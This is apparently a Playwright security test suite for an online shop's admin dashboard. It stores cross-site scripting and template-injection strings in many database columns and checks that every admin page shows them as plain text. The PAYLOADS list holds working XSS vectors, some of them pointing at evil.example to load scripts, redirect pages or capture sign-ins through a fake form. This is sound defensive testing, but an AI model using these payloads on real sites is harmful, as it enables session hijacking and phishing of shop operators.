"""User input is shown as text on every page and never runs as markup or script."""

import asyncio
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import httpx2
import pytest
from playwright.async_api import Page, expect

from shop.admin.operations.overview import MAX_MAILS
from shop.base.ids import new_id
from tests.admin.browser_session import API, fill_application_form, open_page
from tests.admin.catalog_forms import image_data, new_product, saved_message, upload
from tests.admin.dashboard import Dashboard, new_dashboard
from tests.admin.promotion_forms import new_discount
from tests.browser import Browser, scrolls_sideways
from tests.platform.bulk import counts, import_rows
from tests.platform.client import new_machine

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><style><!--</style><img title=--><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)//",
    "<form action=//evil.example><input type=submit value=Sign-in>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "{{7*7}}{% for x in (1,2) %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "<!--<script>-->]]><![CDATA[<b>",
    "'-alert(1)-'\\\";alert(1)//`${alert(1)}`",
    "\u202etxt.exe\u202c\u200b\u2066gnp\ufeff",
    "<b>bold</b>" * 8 + "x" * 12,
)
NAMES = tuple(payload for payload in PAYLOADS if payload.isprintable())
SHOP_NAME = "</title><svg/onload=alert(1)>\"'><script>alert(1)</script>{{7*7}}&lt;b&gt;"
FOREIGN = """() => [...document.querySelectorAll("script, style, link, iframe, base, img, form, math, animate, b > b")]
    .filter(element => !element.nonce && element.rel !== "icon" && !element.matches(".brand img"))
    .filter(element => !element.getAttribute("action")?.startsWith("/admin"))
    .filter(element => !element.matches("img[src^='/media/']"))
    .map(element => element.outerHTML)"""


# The id and payload of a row, and the operator, customer and order whose pages list all payloads.
PARAMETERS = """with params as (
    select $1::uuid as key, $2::text as payload, $3::uuid as operator_id, $4::uuid as customer_id, $5::uuid as order_id)
"""
INSERTS = (
    """insert into users (id, email, email_key, first_name, last_name, created_at, updated_at)
    select key, payload, key::text, payload, payload, now(), now() from params""",
    """insert into sessions
    (id, user_id, source, user_agent, created_at, refreshed_at, idle_expires_at, absolute_expires_at)
    select key, customer_id, '192.0.2.1', payload, now(), now(), now() + interval '1 day', now() + interval '1 day'
    from params""",
    """insert into addresses
    (id, user_id, firstname, lastname, company, address1, address2, city, zipcode, state_name, country_id,
    created_at, updated_at)
    select key, customer_id, payload, payload, payload, payload, payload, payload, payload, payload, id, now(), now()
    from params, countries where iso = 'GB'""",
    """insert into orders (id, number, currency, email, state, special_instructions, internal_note, ship_address_id,
    created_at, updated_at)
    select key, 'R' || key, 'USD', payload, 'cart', payload, payload,
    (select id from addresses where user_id = customer_id and firstname = payload), now(), now() from params""",
    """insert into audit_events (id, at, actor_kind, action, outcome, subject_id, subject_type, detail, changes)
    select key, now(), 'system', payload, 'done', order_id, payload,
    json_build_object(payload, array[payload], 'note', payload),
    json_build_object(payload, array[payload, payload]) from params""",
    """insert into timeline_entries (id, at, actor_kind, type, order_id, facts)
    select key, now(), 'system', 'shipment.shipped', order_id, json_build_object('number', payload, 'tracking', payload)
    from params""",
    """insert into operators (id, email, email_key, role_id, created_at, updated_at)
    select key, payload, key::text, (select id from roles where code = 'owner'), now(), now()
    from params""",
    """insert into operator_sessions (id, hash, operator_id, source, user_agent, created_at, seen_at, authenticated_at)
    select key, uuid_send(key) || uuid_send(key), operator_id, '192.0.2.1', payload, now(), now(), now() from params""",
    """insert into outbox_mails
    (id, kind, recipient, ref_id, not_after, next_at, created_at, dead_at, last_error)
    select key, 'login_code', payload, key, now(), now(), now(), now(), payload from params""",
    """insert into customer_groups (id, name, description, created_at, updated_at)
    select key, payload, payload, now(), now() from params""",
    """insert into customer_group_members (id, customer_group_id, user_id, created_at, updated_at)
    select key, g.id, customer_id, now(), now() from params join customer_groups g on g.name = payload""",
    """insert into price_lists (id, name, currency, percent_off, created_at, updated_at)
    select key, payload, 'USD', 5, now(), now() from params""",
    """insert into price_list_users (id, price_list_id, user_id, created_at, updated_at)
    select key, l.id, customer_id, now(), now() from params join price_lists l on l.name = payload""",
    """insert into stock_locations (id, name, created_at, updated_at) select key, payload, now(), now() from params""",
    """insert into option_types (id, name, presentation, created_at, updated_at)
    select key, key::text, payload, now(), now() from params""",
    """, tree as (insert into taxonomies (id, name, created_at, updated_at)
        select key, payload, now(), now() from params returning id, name)
    insert into taxons (id, taxonomy_id, name, slug, created_at, updated_at)
    select gen_random_uuid(), id, name, id::text, now(), now() from tree""",
    """insert into promotions (id, name, description, code, created_at, updated_at)
    select key, payload, payload, payload, now(), now() from params""",
    """insert into promotion_actions (id, promotion_id, type, created_at, updated_at)
    select key, p.id, payload, now(), now() from params, (select min(id::text)::uuid as id from promotions) p""",
    """insert into coupon_batches (id, promotion_id, name, prefix, codes_count, created_at, updated_at)
    select key, p.id, payload, payload, 1, now(), now()
    from params, (select min(id::text)::uuid as id from promotions) p""",
    """, credit as (insert into store_credits
        (id, user_id, currency, amount, memo, actor_kind, created_at, updated_at)
        select key, customer_id, 'USD', 100, payload, 'operator', now(), now() from params returning id, user_id, memo)
    insert into store_credit_events
    (id, store_credit_id, user_id, currency, action, amount, user_total_amount, reason, actor_kind, created_at)
    select gen_random_uuid(), id, user_id, 'USD', 'granted', 100, 100, memo, 'operator', now() from credit""",
)


async def insert_payloads(dashboard: Dashboard, db: Any) -> tuple[list[Any], list[Any]]:
    """Stores every payload in every column of user input; the first customer and the first order have all of them."""
    users, orders = [uuid4() for _ in PAYLOADS], [uuid4() for _ in PAYLOADS]
    for statement in INSERTS:
        ids = users if statement is INSERTS[0] else orders if statement is INSERTS[3] else [uuid4() for _ in PAYLOADS]
        rows = [(key, text, dashboard.id, users[0], orders[0]) for key, text in zip(ids, PAYLOADS, strict=True)]
        await db.executemany(PARAMETERS + statement, rows)
    return users, orders


async def assert_shows(page: Page, path: str, *texts: str) -> str:
    """Checks that the page shows the texts literally and has no element that they could have added."""
    await page.goto(path)
    page_text = await page.evaluate("document.title + document.body.textContent")
    assert [text for text in texts if text not in page_text] == [], path
    assert await page.evaluate(FOREIGN) == [], path
    assert not await scrolls_sideways(page), path
    return str(page_text)


@pytest.mark.security("D-05")
@pytest.mark.torture
@pytest.mark.parametrize("step", [1], ids=["many"])
async def test_user_input_is_escaped_on_every_page(
    browser: Browser, empty_client: httpx2.AsyncClient, empty_db: Any, step: int
) -> None:
    dashboard = await new_dashboard(empty_client, empty_db)
    users, orders = await insert_payloads(dashboard, empty_db)
    applications = {name: new_id() for name in NAMES}
    for name, key in applications.items():
        response = await dashboard.post(f"{API}/new", id=str(key), name=name, access_level="read", step="create")
        assert response.status_code == 200, name
    product = await new_product(dashboard)
    promotion = f"/admin/promotions/{await empty_db.fetchval('select min(id::text) from promotions')}"
    texts_by_path = {
        "/admin/promotions": PAYLOADS,
        f"{promotion}/parts": PAYLOADS,
        f"{promotion}/batches": PAYLOADS,
        f"/admin/customers/{users[0]}/credit": PAYLOADS,
        "/admin/customer-groups?sort=newest": PAYLOADS,
        "/admin/price-lists": PAYLOADS,
        "/admin/stock": PAYLOADS,
        "/admin/audit": PAYLOADS,
        "/admin/stock/locations": PAYLOADS,
        "/admin/taxons": PAYLOADS,
        f"{product}/variants": PAYLOADS,
        f"{product}/places": PAYLOADS,
        "/admin/customers": PAYLOADS,
        f"/admin/customers/{users[0]}": PAYLOADS,
        "/admin/orders": PAYLOADS,
        f"/admin/orders/R{orders[0]}": PAYLOADS,
        API: NAMES,
        "/admin/settings/operators": PAYLOADS,
        "/admin/account": PAYLOADS,
    }

    async with open_page(browser, dashboard) as page:
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        for path, texts in texts_by_path.items():
            await assert_shows(page, path, *texts)
        overview = await assert_shows(page, "/admin")
        assert len([text for text in PAYLOADS if text in overview]) >= MAX_MAILS
        for name in NAMES[:: 2 * step]:
            await assert_shows(page, f"{API}/{applications[name]}", name)
        for text, key, order in list(zip(PAYLOADS, users, orders, strict=True))[1 :: 3 * step]:
            await assert_shows(page, f"/admin/customers/{key}", text)
            await assert_shows(page, f"/admin/orders/R{order}", text)
            await assert_shows(page, f"/admin/customers?q={quote(text)}")
            await expect(page.get_by_label("Search customers")).to_have_value(text.strip())
        for name in NAMES[:: 4 * step]:
            await assert_shows(page, f"{API}/{applications[name]}/revoke", name)
        await fill_application_form(page, NAMES[5], "Read")
        await expect(page.locator(".facts")).to_contain_text(NAMES[5])
        assert await page.evaluate(FOREIGN) == []

    assert dialogs == []


async def create_catalog(dashboard: Dashboard, db: Any, order_id: Any) -> tuple[str, dict[str, str]]:
    """Stores every payload in the catalog; returns the path of one product that has all of them, which is in the
    order too, and the paths of one product per payload.
    """
    machine, word = await new_machine(dashboard.http, db), uuid4().hex
    variants = [{"sku": text, "barcode": text, "options": {f"Kind {word}": text}, "stock": {word: 1}} for text in NAMES]
    product = {
        "slug": word,
        "name": NAMES[0],
        "properties": {f"Fact {number} {word}": text for number, text in enumerate(NAMES)},
        "variants": [{**variant, "prices": {"USD": "5"}} for variant in variants],
    }
    field_names = ("name", "description", "meta_title", "meta_description", "meta_keywords")
    other_products = [
        {"slug": f"{word}-{number}", "tags": [text], **dict.fromkeys(field_names, text)}
        for number, text in enumerate(NAMES)
    ]
    assert (await machine.post("/stock_locations", {"stock_location": {"name": word}})).status == 201
    report = await import_rows(machine, "products", product, *other_products)
    assert counts(report) == {"lines": len(NAMES) + 1, "created": len(NAMES) + 1}, report
    paths = dict(await db.fetch("select slug, '/admin/products/' || id from products where slug like $1 || '%'", word))
    for text in NAMES:
        saved_message(await upload(dashboard, f"{paths[word]}/images", image_data(size=(8, 8)), new_alt=text))
    await db.execute(
        "insert into line_items (id, order_id, variant_id, quantity, price, quoted_at, name, sku, slug, options_text,"
        " created_at, updated_at) select gen_random_uuid(), $1, v.id, 1, 500, now(), sku, sku, slug, sku, now(), now()"
        " from variants v join products p on p.id = product_id where slug = $2 and not is_master",
        order_id,
        word,
    )
    return paths[word], {text: paths[f"{word}-{number}"] for number, text in enumerate(NAMES)}


@pytest.mark.security("D-05")
@pytest.mark.torture
async def test_catalog_texts_are_escaped_on_every_page(
    browser: Browser, empty_client: httpx2.AsyncClient, empty_db: Any
) -> None:
    dashboard, order_id = await new_dashboard(empty_client, empty_db), uuid4()
    await empty_db.execute(
        "insert into orders (id, number, currency, item_count, created_at, updated_at)"
        " values ($1, $2, 'USD', $3, now(), now())",
        order_id,
        f"R{order_id}",
        len(NAMES),
    )
    product, other_products = await create_catalog(dashboard, empty_db, order_id)
    promotion = await new_discount(dashboard)
    items = "select id from stock_items where variant_id = (select id from variants where sku = $1)"

    async with open_page(browser, dashboard) as page:
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        number, pages = f"R{order_id}".upper(), ("/admin/products", f"{product}/variants", f"{product}/prices")
        await empty_db.execute("update orders set number = $2 where id = $1", order_id, number)
        for path in (*pages, f"/admin/orders/{number}", f"{promotion}/try?order={number}"):
            await assert_shows(page, path, *NAMES)
        await assert_shows(page, f"{product}/places")
        assert set(NAMES) <= set(await page.eval_on_selector_all("input", "all => all.map(one => one.value)"))
        await assert_shows(page, f"{product}/images")
        assert await page.eval_on_selector_all(".pictures img", "all => all.map(one => one.alt)") == list(NAMES)
        for text in NAMES[::3]:
            for part in ("", "/variants", "/images", "/places", "/delete"):
                await assert_shows(page, other_products[text] + part, text)
            await assert_shows(page, f"/admin/products?q={quote(text)}")
            await assert_shows(page, f"/admin/stock?q={quote(text)}")
            await assert_shows(page, f"/admin/stock/{await empty_db.fetchval(items, text)}", text)

    assert dialogs == []


@pytest.mark.torture
async def test_the_shop_name_is_escaped(browser: Browser, empty_client: httpx2.AsyncClient, empty_db: Any) -> None:
    dashboard = await new_dashboard(empty_client, empty_db)
    name = await empty_db.fetchval("select name from shops")
    async with open_page(browser, dashboard, "/admin/settings/shop") as page:
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        try:
            await page.get_by_label("Name").fill(SHOP_NAME)
            await page.get_by_role("button", name="Save").click()
            await expect(page.get_by_label("Name")).to_have_value(SHOP_NAME)
            await wait_for_shop_name(empty_client, True)

            for path in ("/admin", "/admin/account/authenticator", "/admin/sign-in", "/admin/join/x"):
                await assert_shows(page, path, *([] if "join" in path else [SHOP_NAME]))
        finally:
            await empty_db.execute("update shops set name = $1, version = version + 1", name)
            await wait_for_shop_name(empty_client, False)

    assert dialogs == []


async def wait_for_shop_name(http: httpx2.AsyncClient, is_new: bool) -> None:
    """Waits until both processes show the name, or no longer do; each new connection may reach either of them."""
    async with asyncio.timeout(10):
        in_a_row = 0
        while in_a_row < 12:
            page = await http.get("/admin/sign-in", headers={"Connection": "close"})
            in_a_row = in_a_row + 1 if ("svg/onload" in page.text) is is_new else 0
